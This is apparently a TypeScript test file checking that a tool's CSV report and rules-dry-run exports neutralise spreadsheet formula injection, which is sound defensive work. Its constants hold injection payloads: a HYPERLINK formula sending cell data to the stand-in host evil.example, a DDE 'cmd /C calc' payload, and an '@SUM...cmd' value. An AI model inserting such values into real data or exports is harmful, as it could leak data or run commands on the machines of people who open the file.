import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { importCommand } from '../../../scripts/commands/import';
import { reportCommand } from '../../../scripts/commands/report';
import { rulesDryRunCommand } from '../../../scripts/commands/rules';
import type { Config } from '../../../server/config';
import { Branch, Customer, Manager } from '../../../server/db/entities';
import { DB_TARGETS, testConfig } from '../../helpers/db';
import { useFreshDb } from '../../helpers/fixtures';
import { ctxFor, fixture } from './helpers';
import { NOW, seedActivity, seedOrg } from './seed';

const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点我")';
const CALC = "=cmd|' /C calc'!A0";
const LIVE = /^[=+\-@\t\r]/;

/** Every cell of a CSV file that a spreadsheet would evaluate; numeric cells are fine. */
function liveCells(text: string): string[] {
  const rows = parse(text, { bom: true, relax_column_count: true }) as string[][];
  return rows.flat().filter((cell) => LIVE.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));
}

describe.each(DB_TARGETS)('CSV exports neutralise spreadsheet formulas on %s', (target) => {
  const db = useFreshDb(target, { tmp: 'ops-csv-' });
  let config: Config;

  beforeAll(async () => {
    config = testConfig(db.url);
  });
  it('report --format csv: hostile branch and manager names arrive as text', async () => {
    await seedOrg(db.ds);
    await seedActivity(db.ds);
    await db.ds.getRepository(Manager).update({ userid: 'wangfang' }, { name: HYPERLINK });
    await db.ds.getRepository(Branch).update({ code: 'XH01' }, { name: CALC });
    const ctx = ctxFor(db.ds, config, { now: () => NOW });
    for (const by of ['manager', 'branch'] as const) {
      const out = join(db.tmp, `report-${by}.csv`);
      await reportCommand({ by, format: 'csv', out }, ctx);
      const text = readFileSync(out, 'utf8');
      expect(liveCells(text)).toEqual([]);
      const rows = parse(text, { bom: true, columns: true }) as Record<string, string>[];
      const label = rows.find((r) => r.group === (by === 'manager' ? 'wangfang' : 'XH01'))?.label;
      expect(label).toBe(by === 'manager' ? `'${HYPERLINK} (wangfang)` : `'${CALC} (XH01)`);
    }
    // stdout carries the same neutralised text
    const stdout = await reportCommand({ by: 'manager', format: 'csv' }, ctx);
    expect(liveCells(stdout.output ?? '')).toEqual([]);
  });

  it('rules dry-run --out: a hostile customer id arrives as text', async () => {
    const ctx = ctxFor(db.ds, config, { apply: true });
    for (const kind of ['branches', 'managers', 'customers'] as const) {
      await importCommand({ kind, file: fixture(`${kind}.csv`) }, ctx);
    }
    await db.ds.getRepository(Customer).insert({
      id: '@SUM(1+1)*cmd',
      maskedName: '',
      phoneHash: null,
      segment: null,
      ownerUserid: null,
      lat: 31.22,
      lng: 121.54,
      regionCode: null,
      bankTags: null,
      createdAt: NOW,
      updatedAt: NOW,
    });
    const out = join(db.tmp, 'decisions.csv');
    await rulesDryRunCommand({ file: fixture('rules-v3.json'), all: true, out }, ctxFor(db.ds, config));
    const text = readFileSync(out, 'utf8');
    expect(liveCells(text)).toEqual([]);
    const rows = parse(text, { bom: true, columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.customer_id)).toContain("'@SUM(1+1)*cmd");
  });
});
